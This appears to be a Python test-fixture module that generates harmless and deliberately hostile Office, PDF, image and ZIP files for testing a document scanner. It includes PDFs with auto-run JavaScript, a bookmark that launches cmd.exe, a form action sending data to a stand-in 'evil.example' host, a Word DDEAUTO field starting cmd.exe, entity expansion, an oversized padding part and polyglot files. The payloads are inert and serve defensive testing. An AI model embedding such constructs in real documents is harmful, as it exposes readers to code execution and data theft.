"""Files made for tests: good ones, and each of the bad ones, made on the spot so that nothing harmful lies in the repository."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable, Sequence
from typing import Any

import openpyxl
import pikepdf
from PIL import Image

# A day of the calendar and a valid check digit; given to nobody known to us: the CPR office's own example.
CPR = "070761-4285"
# What every scanner calls a virus and is none; in two halves, so that no scanner stumbles over the repository.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-" + b"STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

OFFICE = "application/vnd.openxmlformats-officedocument."
WORD_MAIN = OFFICE + "wordprocessingml.document.main+xml"
WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def pdf(*texts: str, pages: int = 1, encryption: pikepdf.Encryption | None = None, root: dict[str, Any] | None = None) -> bytes:
    """A PDF with a page for each text, or so many empty ones."""
    with pikepdf.new() as document:
        font = document.make_indirect(
            pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica)
        )
        for text in texts or [""] * pages:
            page = document.add_blank_page(page_size=(595, 842))
            page.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
            page.Contents = document.make_stream(f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode("latin-1"))
        for name, value in (root or {}).items():
            document.Root[name] = value
        stream = io.BytesIO()
        document.save(stream, encryption=encryption or False)
        return stream.getvalue()


def encrypted_pdf() -> bytes:
    """One that opens for everybody and may not be printed: what "security restrictions" make."""
    return pdf("hemmelig", encryption=pikepdf.Encryption(owner="ejer", user=""))


def script_pdf() -> bytes:
    """One that runs a script when it is opened."""
    return pdf("hej", root={"/OpenAction": pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))})


def pdf_with_a_file_inside() -> bytes:
    """One with an attachment of its own."""
    with pikepdf.open(io.BytesIO(pdf("hej"))) as document:
        document.attachments["regneark.xlsx"] = xlsx([["a"]])
        stream = io.BytesIO()
        document.save(stream)
        return stream.getvalue()


_NAME, _TEXT, _MAP = pikepdf.Name, pikepdf.String, pikepdf.Dictionary


def _script() -> pikepdf.Dictionary:
    return _MAP(S=_NAME.JavaScript, JS=_TEXT("app.alert(1)"))


def _site() -> pikepdf.Dictionary:
    return _MAP(S=_NAME.URI, URI=_TEXT("https://example.org"))


def _opens(**action: Any) -> Callable[[pikepdf.Pdf], object]:
    return lambda document: setattr(document.Root, "OpenAction", _MAP(**action))


def _annotation(document: pikepdf.Pdf, **entries: Any) -> pikepdf.Object:
    annotation = document.make_indirect(_MAP(Type=_NAME.Annot, Rect=[0, 0, 1, 1], **entries))
    document.pages[0].Annots = pikepdf.Array([annotation])
    return annotation


def _dynamic_form(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = _MAP(Fields=pikepdf.Array(), XFA=document.make_stream(b"<xdp:xdp/>"))


def _bookmark(document: pikepdf.Pdf) -> None:
    item = document.make_indirect(_MAP(Title=_TEXT("Klik"), A=_MAP(S=_NAME.Launch, F=_TEXT("cmd.exe"))))
    document.Root.Outlines = document.make_indirect(_MAP(First=item, Last=item, Count=1))


def _parent_of_a_field(document: pikepdf.Pdf) -> None:
    parent = document.make_indirect(_MAP(FT=_NAME.Tx, T=_TEXT("a"), AA=_MAP(K=_script())))
    parent.Kids = pikepdf.Array([_annotation(document, Subtype=_NAME.Widget, Parent=parent)])
    document.Root.AcroForm = _MAP(Fields=pikepdf.Array([parent]))


def _order_of_calculation(document: pikepdf.Pdf) -> None:
    one = document.make_indirect(_MAP(FT=_NAME.Tx, T=_TEXT("a"), AA=_MAP(C=document.make_indirect(_script()))))
    document.Root.AcroForm = _MAP(Fields=pikepdf.Array(), CO=pikepdf.Array([one]))


def _scripts_by_name(document: pikepdf.Pdf) -> None:
    document.Root.Names = _MAP(JavaScript=_MAP(Names=[]))


def _kind_elsewhere(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = _MAP(S=document.make_indirect(_NAME.GoToE))


def _site_after_another_page(document: pikepdf.Pdf) -> None:
    document.pages[0].AA = _MAP(O=_MAP(S=_NAME.Named, N=_NAME.NextPage, Next=[_site()]))


def _link(document: pikepdf.Pdf) -> None:
    _annotation(document, Subtype=_NAME.Link, A=_site())


def _pinned_file(document: pikepdf.Pdf) -> None:
    inside = _MAP(Type=_NAME.Filespec, F=_TEXT("a.exe"), EF=_MAP(F=document.make_stream(b"MZ")))
    _annotation(document, Subtype=_NAME.FileAttachment, FS=inside)


# What does something, from places where nobody looks at once.
ACTIVE: dict[str, Callable[[pikepdf.Pdf], object]] = {
    "a dynamic form": _dynamic_form,
    "a bookmark that starts a program": _bookmark,
    "a script at a field's parent": _parent_of_a_field,
    "a script that calculates": _order_of_calculation,
    "scripts by name": _scripts_by_name,
    "a script in a rendition": _opens(S=_NAME.Rendition, OP=0, JS=_TEXT("app.alert(1)")),
    "a file on another machine": _opens(S=_NAME.GoToR, F=_TEXT("\\\\evil\\share\\a.pdf"), D=[0, _NAME.Fit]),
    "an action whose kind stands elsewhere": _kind_elsewhere,
    "a form that sends": _opens(S=_NAME.SubmitForm, F=_TEXT("https://evil.example")),
    "a form that fetches": _opens(S=_NAME.ImportData, F=_TEXT("a.fdf")),
    "a site that opens by itself": _site_after_another_page,
}


def changed_pdf(change: Callable[[pikepdf.Pdf], object]) -> bytes:
    """One page, changed; its objects packed, as programs do."""
    with pikepdf.open(io.BytesIO(pdf("hej"))) as document:
        change(document)
        stream = io.BytesIO()
        document.save(stream, object_stream_mode=pikepdf.ObjectStreamMode.generate)
        return stream.getvalue()


def linking_pdf() -> bytes:
    """One with a link to a site, for whoever clicks it."""
    return changed_pdf(_link)


def pdf_with_a_pinned_file() -> bytes:
    """One with a file pinned to its page, and in no list of files."""
    return changed_pdf(_pinned_file)


def zipped(parts: dict[str, bytes | str], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A ZIP of these parts."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", compression) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return stream.getvalue()


def content_types(types: dict[str, str]) -> str:
    """The part that says what the others are: `.xml` for all of that suffix, `/word/document.xml` for one."""
    declared = "".join(
        f'<Override PartName="{name}" ContentType="{kind}"/>'
        if name.startswith("/")
        else f'<Default Extension="{name.lstrip(".")}" ContentType="{kind}"/>'
        for name, kind in types.items()
    )
    return f'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{declared}</Types>'


def relations(**targets: str) -> str:
    """What a part points to, by role; a target with a colon lies outside."""
    outside = ' TargetMode="External"'
    lines = "".join(
        f'<Relationship Id="r{number}" Target="{target}"{outside if ":" in target else ""}'
        f' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{role}"/>'
        for number, (role, target) in enumerate(targets.items())
    )
    namespace = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'<?xml version="1.0"?><Relationships xmlns="{namespace}">{lines}</Relationships>'


def docx(
    *paragraphs: str,
    main: str = WORD_MAIN,
    body: str = "",
    more: dict[str, bytes | str] | None = None,
    types: dict[str, str] | None = None,
    name: str = "word/document.xml",
) -> bytes:
    """A Word file of plain paragraphs; `body` goes in as it is, `more` are further parts, `types` what those are."""
    texts = "".join(f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>" for text in paragraphs)
    document = f'<?xml version="1.0"?><w:document {WORD}><w:body>{texts}{body}</w:body></w:document>'
    return zipped(
        {
            "[Content_Types].xml": content_types({".xml": "application/xml", f"/{name}": main, **(types or {})}),
            "_rels/.rels": relations(officeDocument=name),
            name: document,
            **(more or {}),
        }
    )


def field(instruction: str) -> str:
    """A paragraph with a field, spread over two runs as such files do."""
    halves = (instruction[:3], instruction[3:])
    runs = "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in halves)
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}</w:p>'


def docm_as_docx() -> bytes:
    """A Word file with macros under the plain name."""
    return docx("hej", more={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})


def dde_docx() -> bytes:
    """One with a field that starts another program."""
    return docx("hej", body=field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"))


def pointing_docx(**targets: str) -> bytes:
    """One whose document points to these, by role."""
    return docx("hej", more={"word/_rels/document.xml.rels": relations(**targets)})


def entity_docx() -> bytes:
    """One whose entities grow a thousandfold each."""
    body = f"<w:document {WORD}><w:body><w:p><w:r><w:t>&a;</w:t></w:r></w:p></w:body></w:document>"
    document = f'<!DOCTYPE d [<!ENTITY a "{"x" * 1000}">]>{body}'
    return docx(more={"word/footer.xml": document})


def bomb_docx() -> bytes:
    """A small file of a hundred megabytes of nothing."""
    return docx("hej", more={"word/media/nothing.bin": b"\0" * (100 * 1024 * 1024)})


def xlsx(rows: Sequence[Sequence[Any]]) -> bytes:
    """A workbook of one sheet."""
    book = openpyxl.Workbook()
    assert book.active is not None
    for row in rows:
        book.active.append(list(row))
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def image(format_: str = "PNG", size: tuple[int, int] = (40, 30)) -> bytes:
    """A picture of one colour."""
    stream = io.BytesIO()
    Image.new("RGB", size, "teal").save(stream, format_)
    return stream.getvalue()


def pdf_in_a_picture() -> bytes:
    """A JPEG whose comment begins a PDF: two files in one."""
    picture = image("JPEG")
    comment = b"%PDF-1.4\n"
    return picture[:2] + b"\xff\xfe" + (len(comment) + 2).to_bytes(2, "big") + comment + picture[2:]


def zip_behind_a_pdf() -> bytes:
    """A PDF that is a ZIP when read from its end."""
    return pdf("hej") + zipped({"page.html": "<script>alert(1)</script>"})


def broken_packing(package: bytes) -> bytes:
    """The package with its text's compressed bytes spoilt; everything around them is whole."""
    part = zipfile.ZipFile(io.BytesIO(package)).getinfo("word/document.xml")
    begins = part.header_offset + 30 + sum(struct.unpack_from("<HH", package, part.header_offset + 26))
    return package[:begins] + b"\xff" * 8 + package[begins + 8 :]
